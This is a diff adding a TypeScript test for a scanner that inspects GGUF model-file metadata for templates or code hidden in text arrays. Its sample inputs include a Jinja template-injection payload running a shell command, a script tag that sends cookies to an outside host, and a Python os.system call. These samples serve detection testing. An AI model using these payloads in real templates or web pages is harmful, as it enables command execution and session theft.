@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { makeGguf } from '../../test/support/gguf-files.ts';
+import { GgufWriter, makeGguf } from '../../test/support/gguf-files.ts';
 import type { GgufChanges } from '../../test/support/gguf-files.ts';
 import { memorySource } from '../formats/index.ts';
 import { judgeScan } from './decoded.ts';
@@ -88,4 +88,41 @@ test('a key or an array that holds what is no plain text is told: the safe form 
     scanSource('m.gguf', memorySource(file(0xff))).findings.map(({ code }) => code),
     ['SCAN_METADATA_KEPT'],
   );
+});
+
+/** A file of one array of texts. */
+function makeArray(key: string, texts: readonly string[]): Buffer {
+  const out = new GgufWriter().raw(Buffer.from('GGUF')).u32(3).u64(0).u64(1);
+  out.text(key).u32(9).u32(8).u64(texts.length);
+  for (const each of texts) out.text(each);
+  return out.align(32).finish();
+}
+
+test('a template or code in an array of texts is for a person, pieces of words are not', () => {
+  const verdict = (key: string, ...texts: readonly string[]): string => {
+    const { findings } = scanSource('m.gguf', memorySource(makeArray(key, texts)));
+    const codes = findings.map(({ code }) => code);
+    if (codes.length > 0) assert.deepEqual(codes, ['SCAN_METADATA_KEPT']);
+    return judgeScan(findings);
+  };
+  for (const text of [
+    '{{ messages[0].content }}',
+    "{% for m in messages %}{{ m['content'] }}{% endfor %}",
+    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+    '{%- set x = namespace(a=1) -%}',
+    `<script>fetch("https://example.org/?" + document.cookie)</script> and more`,
+    `${'word '.repeat(20)}__import__('os').system('id')`,
+  ]) {
+    assert.equal(verdict('tokenizer.ggml.tokens', '<s>', text, '</s>'), 'inconclusive', text);
+    assert.equal(verdict('general.tags', text), 'inconclusive', text);
+  }
+  const pieces = [
+    ...['{{', '}}', '{%', '%}', '{{$', '}}</', '{{{', '{{ }}', '{% %}', '<s>', '<|im_start|>'],
+    ...['System.out.println("', 'getElementById(', ' '.repeat(128), '='.repeat(96)],
+    ...['_'.repeat(48) + ' ' + '_'.repeat(32), '%'.repeat(32) + ' ' + '%'.repeat(32)],
+    ...['/'.repeat(80), 'ĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠĠ'],
+    ...['abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/'],
+  ];
+  assert.equal(verdict('tokenizer.ggml.tokens', ...pieces), 'clean');
+  assert.equal(verdict('general.datasets', 'https://example.org/datasets/a-longer-name'), 'clean');
 });
